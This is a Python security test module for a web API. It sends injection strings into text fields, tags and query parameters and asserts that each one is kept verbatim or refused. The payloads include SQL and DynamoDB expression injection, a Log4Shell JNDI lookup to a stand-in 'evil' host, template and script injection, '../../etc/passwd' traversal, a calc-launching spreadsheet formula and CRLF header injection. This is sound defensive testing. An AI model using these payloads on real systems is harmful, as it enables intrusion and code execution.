"""Text that means something to a store, a header, a log or a browser: kept as text, or refused."""

from typing import Any
from urllib.parse import quote

from chalicelib.api.routing import Route
from tests.client import Reply
from tests.security.registry import attack, bodied, private, querying
from tests.security.samples import body_fields, is_text, query_fields, sample_body
from tests.security.world import World, expect

_EXPRESSIONS = (
    "#pk = :v",
    "attribute_not_exists(pk)",
    ":v",
    "SET owner_id = :bob REMOVE #x",
    '\') UNION SELECT * FROM "TrackerTable" --',
    "${jndi:ldap://evil/x}",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
)
_CONTROLS = ("a\u0000b", "a\u001bb", "a\u0008b", "a\u007fb", "a\u0085b\u0086", "\u0000")
_LINE_ENDS = ("a\r\nSet-Cookie: tt_refresh=x", "a\nX-Injected: 1", "a\rb")
_ENDS_OF_THE_CALENDAR = (
    "0001-01-01",
    "9999-12-31",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-14:00",
    "0000-00-00",
    "2026-02-30",
)
_SURROGATES = (b"\\ud800", b"\\udfffx", b"\\ude00\\ud83d")


def _text_bodied(route: Route) -> bool:
    return bodied(route) and any(is_text(field) for field in body_fields(route).values())


def _text_querying(route: Route) -> bool:
    return querying(route) and private(route)


def _text_fields(route: Route) -> list[str]:
    return [name for name, field in body_fields(route).items() if is_text(field)]


def _with(world: World, route: Route, name: str, value: Any) -> Reply:
    """The answer to a good request about a thing of the asker's, but for this one field."""
    path = world.path_of(route, world.ana)
    return world.ask(route, path=path, body={**(sample_body(route) or {}), name: value})


def _kept_or_refused(reply: Reply, name: str, value: str) -> None:
    if reply.status >= 400:
        assert reply.status in (400, 401, 409), reply.text
        return
    shown = reply.json.get(name) if reply.text else None
    assert shown is None or shown == value, f"{value!r} became {shown!r}"


@attack("expressions in text fields", _text_bodied)
def expressions(world: World, route: Route) -> None:
    for name in _text_fields(route):
        for text in world.variants(route, _EXPRESSIONS):
            _kept_or_refused(_with(world, route, name, text), name, text)


@attack("expressions in lists of text", lambda r: bodied(r) and "tags" in body_fields(r))
def expressions_in_lists(world: World, route: Route) -> None:
    for text in world.variants(route, _EXPRESSIONS):
        reply = _with(world, route, "tags", [text])
        # A tag is normalised: lower case, without the # people put before it.
        assert reply.status == 400 or reply.json["tags"] == [text.lower().lstrip("#")], reply.text


@attack("expressions in query parameters", _text_querying)
def expressions_in_query(world: World, route: Route) -> None:
    for name in query_fields(route):
        for text in world.variants(route, _EXPRESSIONS):
            token = world.bystander.token
            reply = world.ask(route, token=token, query=f"{name}={quote(text, '')}")
            assert reply.status in (200, 400, 404), reply.text
            if reply.status == 200:
                assert reply.json["items"] == []


@attack("control characters", _text_bodied)
def control_characters(world: World, route: Route) -> None:
    for name in _text_fields(route):
        for text in world.variants(route, _CONTROLS):
            reply = _with(world, route, name, text)
            # A password may hold them; a password is never shown.
            assert reply.status in (400, 401) or "password" in name, reply.text
            assert "\\u0000" not in reply.text


@attack("line ends in text fields", _text_bodied)
def line_ends(world: World, route: Route) -> None:
    for name in _text_fields(route):
        for text in world.variants(route, _LINE_ENDS):
            reply = _with(world, route, name, text)
            assert "x-injected" not in reply.headers
            assert reply.status < 500


@attack("lone surrogates", bodied)
def lone_surrogates(world: World, route: Route) -> None:
    for name in body_fields(route):
        for escaped in world.variants(route, _SURROGATES):
            raw = b'{"' + name.encode() + b'": "' + escaped + b'"}'
            expect(world.ask(route, raw=raw), 400, "bad_request")
            expect(world.ask(route, raw=b'{"' + escaped + b'": "x"}'), 400, "bad_request")


@attack("very long text", _text_bodied)
def very_long_text(world: World, route: Route) -> None:
    for name in _text_fields(route):
        body = {**(sample_body(route) or {}), name: "x" * 100_000}
        expect(world.ask(route, body=body), 400, "validation_failed")


@attack("ends of the calendar in query parameters", _text_querying)
def ends_of_the_calendar(world: World, route: Route) -> None:
    orders = query_fields(route).get("sort", {}).get("anyOf", [{}])[0].get("enum", [])
    for name in filter(lambda name: is_text(query_fields(route)[name]), query_fields(route)):
        for text in world.variants(route, _ENDS_OF_THE_CALENDAR):
            for query in ("", *(f"sort={order}&" for order in orders)):
                reply = world.ask(route, query=f"{query}{name}={quote(text, '')}")
                assert reply.status in (200, 400), reply.text


@attack("control characters in query parameters", querying)
def controls_in_query(world: World, route: Route) -> None:
    for name in query_fields(route):
        for text in world.variants(route, ("%00", "a%00b", "%0d%0aX-Injected:%201", "%1b")):
            reply = world.ask(route, query=f"{name}={text}")
            assert reply.status in (200, 400), reply.text
            assert "x-injected" not in reply.headers


@attack("bytes that are no UTF-8 in the query", querying)
def bytes_in_query(world: World, route: Route) -> None:
    for name in query_fields(route):
        for text in world.variants(route, ("%ff", "%c0%af", "%ed%a0%80", "%")):
            reply = world.ask(route, query=f"{name}={text}")
            assert reply.status in (200, 400), reply.text
